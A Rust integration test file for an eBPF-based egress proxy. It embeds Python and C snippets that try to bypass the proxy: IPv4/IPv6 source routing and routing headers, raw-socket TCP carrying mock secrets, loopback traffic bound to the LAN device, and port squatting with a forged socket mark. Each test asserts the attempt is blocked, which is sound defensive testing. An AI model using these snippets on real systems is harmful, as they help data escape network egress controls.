//! The side doors of the kernel handoff, attacked from where an attacker would stand: a process
//! in the intercepted cgroup that source-routes its packets past connect()'s decision; a local
//! user outside the cgroup who takes the local address of a homeserver connection that never
//! reached the agent; and a neighbour with exactly Docker's default network capabilities that
//! takes egress's port while egress is down; root in the cgroup with only Docker's default
//! capabilities (a container's root) writing TCP on raw sockets or stacking extension headers; and
//! an unprivileged process sending to a loopback address out of the LAN device. (The reused
//! synthetic DNS port is in dns.rs with the rest of synthetic DNS.) Each failed on the release
//! before.
//!
//! Root only: real namespaces, cgroup eBPF programs, squid and nginx.

use std::time::Duration;

use egress_testbed::{HS_IP, ORIGIN_IP, ORIGIN_IP6, Testbed, wait};

/// A kernel decision counter; 0 where the running release has none (so that a test run against
/// the release before fails on what the attack did, not on a missing counter).
fn counter(bed: &Testbed, name: &str) -> u64 {
    bed.agent().counters().unwrap().get(name).copied().unwrap_or(0)
}

/// Kills a daemon-like child when dropped, also when a test fails.
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Root with exactly the capabilities Docker gives a container by default: `setpriv` options.
const DOCKER_DEFAULT_CAPS: &str = "--bounding-set=-all,+chown,+dac_override,+fowner,+fsetid,+kill,\
+setgid,+setuid,+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod,+audit_write,+setfcap";

/// `python3 args...` as `nobody` with no capabilities (Debian's python).
fn as_nobody<'a>(args: &[&'a str]) -> Vec<&'a str> {
    let mut all = vec![
        "setpriv",
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        "/usr/bin/python3",
    ];
    all.extend_from_slice(args);
    all
}

/// Sets a source route on a TCP socket, then connects: argv[1] the family (4 or 6), argv[2] the
/// route's first hop, argv[3]:argv[4] where connect() goes. Prints what setsockopt said (`set`
/// or the errno's name), then what connect said.
const ROUTED_CONNECT: &str = r#"
import errno, socket, struct, sys
if sys.argv[1] == '6':
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    # A type-4 segment routing header: segments [final destination (the kernel's), first hop].
    srh = struct.pack('!BBBBBBH', 0, 4, 4, 1, 1, 0, 0) + bytes(16) + socket.inet_pton(socket.AF_INET6, sys.argv[2])
    option = (socket.IPPROTO_IPV6, 57, srh)  # IPV6_RTHDR
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # A loose source route through the first hop (NOP, LSRR, length 7, pointer 4, address).
    option = (socket.IPPROTO_IP, 4, bytes([1, 131, 7, 4]) + socket.inet_aton(sys.argv[2]))  # IP_OPTIONS
try:
    s.setsockopt(*option); print('set', flush=True)
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)), flush=True)
s.settimeout(2)
try:
    s.connect((sys.argv[3], int(sys.argv[4]))); print('connected')
except socket.timeout:
    print('timeout')
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)))
"#;

/// A process in the cgroup, as an unprivileged user, puts a segment routing header naming a
/// blacklisted host on a TCP socket and dials `[::1]:80`: connect4/6 pass it as loopback, and the
/// kernel would send the SYN to the first segment. The same with an IPv4 loose source route.
/// Both options are refused in the kernel, counted, and nothing reaches the host.
#[test]
fn routing_headers_and_source_routes_are_refused_on_intercepted_sockets() {
    let mut bed = Testbed::standard();
    bed.start_default_agent().unwrap();
    let before = counter(&bed, "deny_sockopt");
    for (family, first_hop, destination) in [("6", ORIGIN_IP6, "::1"), ("4", ORIGIN_IP, "127.0.0.1")] {
        let args = as_nobody(&["-c", ROUTED_CONNECT, family, first_hop, destination, "80"]);
        let out = bed.run_in_cgroup(args[0], &args[1..]).unwrap();
        let said: Vec<&str> = out.stdout.lines().collect();
        assert_eq!(said.first(), Some(&"EPERM"), "IPv{family}: {out:?}");
    }
    assert_eq!(
        bed.direct_packets_at_origin().unwrap(),
        0,
        "a source-routed packet reached the origin"
    );
    assert_eq!(counter(&bed, "deny_sockopt"), before + 2);

    // Outside the intercepted cgroup, nothing changes (the hook is the cgroup's).
    let args = as_nobody(&["-c", ROUTED_CONNECT, "6", ORIGIN_IP6, "::1", "80"]);
    let outside = bed.run_in_hs(args[0], &args[1..]).unwrap();
    assert_eq!(outside.stdout.lines().next(), Some("set"), "{outside:?}");
}

/// The same attack from a 32-bit process, whose setsockopt() skips the cgroup hook: the option is
/// set, but the packets that carry it are dropped on their way out of the cgroup, counted. Once
/// as `nobody` with a routing header alone; once as a container's root (CAP_NET_RAW allows
/// hop-by-hop and destination options) with all four extension headers Linux stacks, hop-by-hop,
/// destination options before and after the routing header: more than a short walk sees.
#[test]
fn a_32_bit_process_that_sets_a_routing_header_gets_its_packets_dropped() {
    let mut bed = Testbed::standard();
    bed.start_default_agent().unwrap();
    let binary = compile_32_bit(&bed, "rthdr32", RTHDR_32);
    let nobody = ["--reuid=nobody", "--regid=nogroup", "--clear-groups"];
    for (headers, user) in [("routing", &nobody[..]), ("all", &[DOCKER_DEFAULT_CAPS][..])] {
        let before = counter(&bed, "drop_ip_options");
        let mut args = user.to_vec();
        args.extend([binary.as_str(), ORIGIN_IP6, headers]);
        let out = bed.run_in_cgroup("setpriv", &args).unwrap();
        assert_eq!(
            bed.direct_packets_at_origin().unwrap(),
            0,
            "a source-routed packet ({headers}) reached the origin: {out:?}"
        );
        let said: Vec<&str> = out.stdout.lines().collect();
        assert_eq!(said, ["set", "timeout"], "{headers}: {out:?}");
        assert!(counter(&bed, "drop_ip_options") > before, "{headers}");
    }
}

/// Compiles C `source` with `gcc -m32 -static` in the test's directory; the binary's path.
fn compile_32_bit(bed: &Testbed, name: &str, source: &str) -> String {
    let source_path = bed.dir.join(format!("{name}.c"));
    std::fs::write(&source_path, source).unwrap();
    let binary = bed.dir.join(name);
    let compiled = std::process::Command::new("gcc")
        .args(["-m32", "-static", "-O1", "-o"])
        .arg(&binary)
        .arg(&source_path)
        .output()
        .unwrap();
    assert!(
        compiled.status.success(),
        "gcc -m32 (gcc-multilib, installed by cargo xtask setup): {}",
        String::from_utf8_lossy(&compiled.stderr)
    );
    binary.to_string_lossy().into_owned()
}

/// Sets a segment routing header naming argv[1] on an IPv6 TCP socket (with argv[2] = `all`, also
/// hop-by-hop options and destination options before and after it) and dials [::1]:80 for two
/// seconds; prints `set` (or the errno) and the connect's outcome. Built with -m32: its
/// setsockopt is a compat syscall.
const RTHDR_32: &str = r#"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
    unsigned char srh[40] = {0, 4, 4, 1, 1, 0, 0, 0};
    /* Next header, length 0 (8 bytes), PadN of 4. */
    unsigned char options[8] = {0, 0, 1, 4, 0, 0, 0, 0};
    int all = argc > 2 && strcmp(argv[2], "all") == 0;
    if (argc < 2 || inet_pton(AF_INET6, argv[1], srh + 24) != 1) return 2;
    int s = socket(AF_INET6, SOCK_STREAM, 0);
    int names[] = {54 /* IPV6_HOPOPTS */, 55 /* IPV6_RTHDRDSTOPTS */, 59 /* IPV6_DSTOPTS */};
    for (int i = 0; all && i < 3; i++) {
        if (setsockopt(s, IPPROTO_IPV6, names[i], options, sizeof options) != 0) {
            printf("%d: %s\n", names[i], strerror(errno));
            return 0;
        }
    }
    if (setsockopt(s, IPPROTO_IPV6, 57 /* IPV6_RTHDR */, srh, sizeof srh) != 0) {
        printf("%s\n", strerror(errno));
        return 0;
    }
    printf("set\n");
    fflush(stdout);
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(80), .sin6_addr = in6addr_loopback};
    fcntl(s, F_SETFL, O_NONBLOCK);
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) { printf("connected\n"); return 0; }
    if (errno != EINPROGRESS) { printf("%s\n", strerror(errno)); return 0; }
    struct pollfd p = {.fd = s, .events = POLLOUT};
    if (poll(&p, 1, 2000) == 0) { printf("timeout\n"); return 0; }
    int err = 0; socklen_t len = sizeof err;
    getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &len);
    printf("%s\n", err ? strerror(err) : "connected");
    return 0;
}
"#;

/// Writes TCP SYNs with a payload to argv[1]:443 from argv[2] on raw sockets, as connect() never
/// would: three with IPPROTO_TCP (the kernel writes the IP header), three with IPPROTO_RAW (the
/// caller does). Prints `opened`, then per datagram `sent` or the errno (a packet dropped on its
/// way out fails the send with EPERM).
const RAW_TCP: &str = r#"
import errno, socket, struct, sys
dst, src = sys.argv[1], sys.argv[2]
def checksum(data):
    if len(data) % 2: data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
payload = b'SECRET from a raw socket'
def tcp():
    head = struct.pack('!HHIIBBHHH', 40000, 443, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(head) + len(payload))
    summed = checksum(pseudo + head + payload)
    return head[:16] + struct.pack('!H', summed) + head[18:] + payload
segment = tcp()
ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print('opened', flush=True)
for sock, datagram in [(s, segment)] * 3 + [(r, ip + segment)] * 3:
    try:
        sock.sendto(datagram, (dst, 0)); print('sent')
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e)))
"#;

/// Root in the cgroup with Docker's default capabilities (a container's root has CAP_NET_RAW)
/// writes TCP on raw sockets, which no connect() hook sees: every such packet is dropped on its way
/// out of the cgroup, counted, and nothing reaches the origin. TCP through connect() still works.
#[test]
fn tcp_written_on_raw_sockets_is_dropped() {
    let mut bed = Testbed::standard();
    bed.start_default_agent().unwrap();
    let before = counter(&bed, "drop_raw_tcp");
    let out = bed
        .run_in_cgroup(
            "setpriv",
            &[
                DOCKER_DEFAULT_CAPS,
                "/usr/bin/python3",
                "-c",
                RAW_TCP,
                ORIGIN_IP,
                HS_IP,
            ],
        )
        .unwrap();
    let said: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(said.first(), Some(&"opened"), "{out:?}");
    assert_eq!(
        bed.direct_packets_at_origin().unwrap(),
        0,
        "raw TCP reached the origin: {out:?}"
    );
    assert_eq!(said[1..], ["EPERM"; 6], "{out:?}");
    assert_eq!(counter(&bed, "drop_raw_tcp"), before + 6);
    assert_eq!(bed.curl("https://origin.test/").unwrap().code, Some(0));
}

/// Opens an ordinary loopback connection from the LAN address argv[1] to a listener on
/// 127.0.0.2, then binds the client to the LAN device `eth0` and sends on it: where no loopback
/// route matches the device, the kernel sends the data out of it. Prints `sent` or the errno.
const LOOPBACK_OUT_OF_ETH0: &str = r#"
import errno, socket, sys, time
try:
    l = socket.socket(); l.bind(('127.0.0.2', 0)); l.listen(1)
    c = socket.socket(); c.bind((sys.argv[1], 0)); c.connect(l.getsockname()); l.accept()
    c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    for _ in range(3):
        c.send(b'SECRET out of the LAN device'); time.sleep(0.2)
    print('sent')
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)))
time.sleep(1)
"#;

/// A process in the cgroup, as `nobody`, binds a loopback connection to the LAN device
/// (SO_BINDTODEVICE needs no capability). connect() let it pass as loopback; the kernel would then
/// send its data to whichever neighbour answers for 127.0.0.2 (here the origin, set up to). The
/// packets are dropped on their way out of the cgroup, counted.
#[test]
fn loopback_traffic_bound_to_the_lan_device_is_dropped() {
    let mut bed = Testbed::standard();
    bed.start_default_agent().unwrap();
    for sysctl in [
        "net.ipv4.conf.all.route_localnet=1",
        "net.ipv4.conf.eth0.route_localnet=1",
    ] {
        bed.origin.exec("sysctl", &["-qw", sysctl]).unwrap();
    }
    bed.origin
        .ip(&["addr", "add", "127.0.0.2/32", "dev", "eth0"])
        .unwrap();
    let before = counter(&bed, "drop_loopback_leak");
    let args = as_nobody(&["-c", LOOPBACK_OUT_OF_ETH0, HS_IP]);
    let out = bed.run_in_cgroup(args[0], &args[1..]).unwrap();
    assert_eq!(out.stdout.trim(), "sent", "{out:?}");
    assert_eq!(
        bed.direct_packets_at_origin().unwrap(),
        0,
        "loopback data reached the origin"
    );
    assert!(counter(&bed, "drop_loopback_leak") > before);
}

/// From the intercepted cgroup: binds 127.0.0.1:argv[1], connects to argv[2]:443 (redirected to
/// egress), prints `connected`, then closes in order.
const CLIENT_FROM_PORT: &str = r#"
import socket, sys
s = socket.socket(); s.bind(('127.0.0.1', int(sys.argv[1]))); s.settimeout(5)
s.connect((sys.argv[2], 443)); print('connected', flush=True)
s.close()
"#;

/// From 127.0.0.1:argv[1], outside the cgroup, connects to egress's listener directly and asks
/// for origin.test; prints what came back (`reset`, `eof` or the first bytes).
const CLAIM_FROM_PORT: &str = r#"
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', int(sys.argv[1]))); s.settimeout(10)
try:
    s.connect(('127.0.0.1', 1001))
    s.sendall(b'GET / HTTP/1.1\r\nHost: origin.test\r\n\r\n')
    data = s.recv(100); print('eof' if not data else repr(data))
except (ConnectionResetError, BrokenPipeError):
    print('reset')
"#;

/// A homeserver connection whose handshake never completes at the agent (its final ACK lost, as
/// with a full accept queue) closes, having filed its original destination under its local
/// address. A local user outside the cgroup then binds that address and connects to egress's
/// listener directly: it must not be tunnelled with egress's credentials. The destination is
/// bound to the connection the agent accepts, when it is established, and is gone with a client
/// socket that never got there.
#[test]
fn an_original_destination_cannot_be_claimed_after_its_connection_is_gone() {
    const PORT: &str = "47311";
    let mut bed = Testbed::standard();
    bed.start_default_agent().unwrap();
    // The orphaned client gives up quickly (one FIN retransmission).
    bed.hs
        .exec("sysctl", &["-qw", "net.ipv4.tcp_orphan_retries=1"])
        .unwrap();
    // Everything but the SYN from the client's port to egress's listener is lost: the client
    // thinks it is connected; the agent never gets the connection.
    let rules = format!(
        "table inet egress_lost_ack {{\n  chain out {{\n    type filter hook output priority 0;\n    \
         tcp sport {PORT} tcp dport 1001 tcp flags & syn == 0 drop\n  }}\n}}\n"
    );
    egress_testbed::process::run_with_input(
        "ip",
        &["netns", "exec", &bed.hs.name, "nft", "-f", "-"],
        Some(&rules),
    )
    .unwrap();
    let recorded = counter(&bed, "origdst_recorded");
    let client = bed
        .run_in_cgroup("python3", &["-c", CLIENT_FROM_PORT, PORT, ORIGIN_IP])
        .unwrap();
    assert_eq!(client.stdout.trim(), "connected", "{client:?}");
    assert_eq!(counter(&bed, "origdst_recorded"), recorded + 1);

    // The client's socket is gone (closed from FIN_WAIT1); then the agent's half-open one too.
    let sockets = |filter: &str| bed.hs.exec("ss", &["-tanH", filter]).unwrap_or_default();
    wait::until(
        "the client's socket to close",
        Duration::from_secs(30),
        || Ok(sockets(&format!("sport = :{PORT}"))),
        |listing| listing.trim().is_empty(),
    )
    .unwrap();
    bed.hs
        .exec("nft", &["delete", "table", "inet", "egress_lost_ack"])
        .unwrap();
    wait::until(
        "the agent's half-open connection to go",
        Duration::from_secs(30),
        || Ok(sockets(&format!("dport = :{PORT}"))),
        |listing| listing.trim().is_empty(),
    )
    .unwrap();

    let args = as_nobody(&["-c", CLAIM_FROM_PORT, PORT]);
    let claim = bed.run_in_hs(args[0], &args[1..]).unwrap();
    assert!(
        matches!(claim.stdout.trim(), "reset" | "eof"),
        "the claimer got an answer: {claim:?}"
    );
    let line = bed
        .agent()
        .wait_decision(&[("client", &format!("127.0.0.1:{PORT}"))])
        .unwrap();
    assert_eq!(line.get("route"), "none", "{line}");
    assert!(line.get("error").contains("no original destination"), "{line}");
    assert!(
        !bed.squid_access_log().contains("origin.test"),
        "{}",
        bed.squid_access_log()
    );
    assert_eq!(counter(&bed, "origdst_bound"), 0);

    // A connection that does reach the agent has its destination bound to it, and is served.
    let ok = bed.curl("https://origin.test/").unwrap();
    assert_eq!(ok.code, Some(0), "{ok:?}");
    assert_eq!(counter(&bed, "origdst_bound"), 1);
}

/// Binds 127.0.0.1 and [::1] port argv[1], puts socket mark argv[2] on the listeners (as egress's
/// carry), prints `listening` (or the errno), then `accepted` per connection.
const MARKED_SQUATTER: &str = r#"
import errno, socket, sys, threading
socks = []
try:
    for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
        s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, 36, int(sys.argv[2], 0))  # SO_MARK
        s.bind((host, int(sys.argv[1]))); s.listen(16); socks.append(s)
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)), flush=True); sys.exit(1)
print('listening', flush=True)
def serve(s):
    while True:
        c, peer = s.accept(); print('accepted', peer, flush=True); c.close()
threading.Thread(target=serve, args=(socks[1],), daemon=True).start()
serve(socks[0])
"#;

/// While egress is down, a neighbour with exactly Docker's default network capabilities
/// (CAP_NET_BIND_SERVICE, CAP_NET_RAW), running as `nobody` outside the agent's cgroup (a
/// host-network container), binds egress's port and sets the agent mark on its listeners: it gets
/// no homeserver connection, which is refused instead. The listener's identity is something only
/// egress can give a socket.
#[test]
fn a_neighbour_with_dockers_default_capabilities_cannot_take_egress_connections() {
    let mut bed = Testbed::standard();
    bed.start_default_agent().unwrap();
    bed.stop_agent(); // the programs stay attached
    let mut squatter = Killed(
        bed.hs_command(
            None,
            "setpriv",
            &[
                "--reuid=nobody",
                "--regid=nogroup",
                "--clear-groups",
                "--inh-caps=+net_bind_service,+net_raw",
                "--ambient-caps=+net_bind_service,+net_raw",
                "--bounding-set=-all,+net_bind_service,+net_raw",
                "/usr/bin/python3",
                "-c",
                MARKED_SQUATTER,
                "1001",
                "0x65677273",
            ],
        )
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap(),
    );
    let mut reader = std::io::BufReader::new(squatter.0.stdout.take().unwrap());
    let mut first = String::new();
    std::io::BufRead::read_line(&mut reader, &mut first).unwrap();
    // Linux 5.17 lets CAP_NET_RAW set SO_MARK; before, the squatter fails here already.
    if first.trim() != "listening" {
        assert_eq!(first.trim(), "EPERM", "{first}");
        return;
    }

    let refused = bed.agent().counter("deny_not_agent_listener").unwrap();
    for address in [ORIGIN_IP, ORIGIN_IP6] {
        assert_eq!(bed.tcp_connect(address, 443).unwrap(), "EPERM", "{address}");
    }
    assert_eq!(
        bed.agent().counter("deny_not_agent_listener").unwrap(),
        refused + 2
    );
    drop(squatter);
    let mut rest = String::new();
    let _ = std::io::Read::read_to_string(&mut reader, &mut rest);
    assert!(
        !rest.contains("accepted"),
        "the squatter got a connection: {rest}"
    );
    assert_eq!(bed.direct_packets_at_origin().unwrap(), 0);

    // With the squatter gone, egress takes its port back and serves again.
    bed.start_default_agent().unwrap();
    assert_eq!(bed.curl("https://origin.test/").unwrap().code, Some(0));
}
